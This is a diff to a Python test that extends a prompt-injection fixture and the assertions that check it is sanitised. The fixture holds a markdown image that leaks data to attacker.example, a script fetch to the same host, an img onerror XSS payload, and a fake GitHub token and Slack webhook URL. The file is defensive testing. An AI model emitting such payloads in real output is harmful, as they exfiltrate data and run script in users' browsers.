@@ -978,7 +978,11 @@ INJECTED = (
     "Looks fine. ![x](http://attacker.example/r.png?d=secret) see "
     "[the docs](https://attacker.example/p) and <img src=x onerror=alert(1)> "
     "<script>fetch('//attacker.example')</script> or the "
-    "[PR](https://github.com/acme/shop/pull/7)\n\n```html\n<b>kept in code</b>\n```"
+    "[PR](https://github.com/acme/shop/pull/7). Token ghp_"
+    + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"
+    + " and https://hooks.slack.com/services/T0000AAAA/B0000BBBB/"
+    + "XyZ123abcDEF456ghiJKL789"
+    + "\n\n```html\n<b>kept in code</b>\n```"
 )
 
 
@@ -988,6 +992,7 @@ def _no_foreign_markup(body: str) -> None:
     assert "![" not in prose and "://attacker.example" not in prose
     assert "<img" not in prose and "<script" not in prose  # escaped: shown as text
     assert "https://github.com/acme/shop/pull/7" in prose  # allowed host, kept
+    assert "ghp_a1B2" not in body and "XyZ123abc" not in body  # a model may echo secrets
     assert "<b>kept in code</b>" in body  # code blocks are left as written
 
 
